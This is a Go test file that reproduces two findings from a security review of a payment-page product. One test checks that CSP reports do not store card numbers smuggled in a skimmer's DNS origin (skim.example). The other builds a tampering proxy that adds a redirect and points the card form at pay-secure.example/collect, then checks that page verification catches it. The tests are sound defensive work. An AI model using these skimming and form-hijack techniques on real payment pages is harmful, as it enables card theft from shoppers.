package e2e

// Reproductions from the hostile review of issue 14 (branch review14). Each
// test states the promise it attacks and fails while the defect is there.

import (
	"context"
	"io"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"strings"
	"testing"

	"github.com/paypage/paypage/pkg/pagecheck"
	"github.com/paypage/paypage/pkg/web"
)

// TestReview14CSPReportKeepsNoCardData: "each report is kept as three
// fields only ... the blocked URL's origin": a skimmer that exfiltrates by
// DNS (an image from https://<PAN>.<exp>.<cvv>.skim.example/) makes the
// browser report that origin, and the origin is the card. web/integrity.go
// originOf keeps u.Host verbatim: the PAN lands in the store's csp-reports
// log and in the warn log line.
func TestReview14CSPReportKeepsNoCardData(t *testing.T) {
	e := newEnv(t, envOpts{})
	pan := "4242424242424242"
	body := `[{"type":"csp-violation","url":"` + e.url + `/pay/x","body":{"documentURL":"` + e.url +
		`/pay/ses_aaaaaaaaaaaaaaaaaaaaaaaaaa","effectiveDirective":"img-src","blockedURL":"https://` + pan + `.1230.981.skim.example/p.gif"}}]`
	resp, err := http.Post(e.url+"/csp-report", "application/reports+json", strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != 204 {
		t.Fatalf("report: %d", resp.StatusCode)
	}
	ents, err := e.app.Store().Read(context.Background(), "csp-reports", "", 10)
	if err != nil || len(ents) != 1 {
		t.Fatalf("recorded %d reports: %v", len(ents), err)
	}
	if kept := string(ents[0].Data) + e.logs.String(); strings.Contains(kept, pan) {
		t.Fatalf("a CSP report kept a card number (in the blocked origin):\n%s", string(ents[0].Data))
	}
}

// TestReview14VerifyPageCatchesANavigationAway: verify-page must exit
// non-zero "when a script, style, inline script or security header differs"
// and the aim is to know "if someone changed the payment page"
// (11.6.1: the contents of the page as received). A tampering proxy that
// leaves scripts, styles and headers alone but adds
// <meta http-equiv="refresh"> to a look-alike page (no CSP directive stops a
// navigation) and points the card form elsewhere passes: pagecheck.Verify
// looks at no element but script, link, style, iframe, object and embed,
// and at no attribute but on*, and javascript: in href/src/action.
func TestReview14VerifyPageCatchesANavigationAway(t *testing.T) {
	e := newEnv(t, envOpts{})
	want, err := web.BuildManifest(e.url)
	if err != nil {
		t.Fatal(err)
	}
	id := e.session(nil)["id"].(string)
	target, _ := url.Parse(e.url)
	proxy := httputil.NewSingleHostReverseProxy(target)
	proxy.ModifyResponse = func(r *http.Response) error {
		if !strings.HasPrefix(r.Header.Get("Content-Type"), "text/html") {
			return nil
		}
		b, _ := io.ReadAll(r.Body)
		r.Body.Close()
		s := strings.Replace(string(b), "</head>", `<meta http-equiv="refresh" content="8;url=https://pay-secure.example/pay/`+id+`"></head>`, 1)
		s = strings.ReplaceAll(s, `<form method="post" action="`, `<form method="post" action="https://pay-secure.example/collect" data-was="`)
		r.Body = io.NopCloser(strings.NewReader(s))
		r.ContentLength = int64(len(s))
		r.Header.Del("Content-Length")
		return nil
	}
	tamper := httptest.NewServer(proxy)
	defer tamper.Close()
	diffs, err := pagecheck.Verify(context.Background(), http.DefaultClient, tamper.URL+"/pay/"+id, want)
	if err != nil {
		t.Fatal(err)
	}
	// The page did change: make sure the proxy really rewrote it.
	resp, err := http.Get(tamper.URL + "/pay/" + id)
	if err != nil {
		t.Fatal(err)
	}
	page, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if !strings.Contains(string(page), `http-equiv="refresh"`) || !strings.Contains(string(page), `action="https://pay-secure.example/collect"`) {
		t.Fatal("the proxy did not tamper (test harness)")
	}
	if len(diffs) == 0 {
		t.Fatal("verify-page found nothing on a page that sends the shopper to another site and posts the card form to it")
	}
}
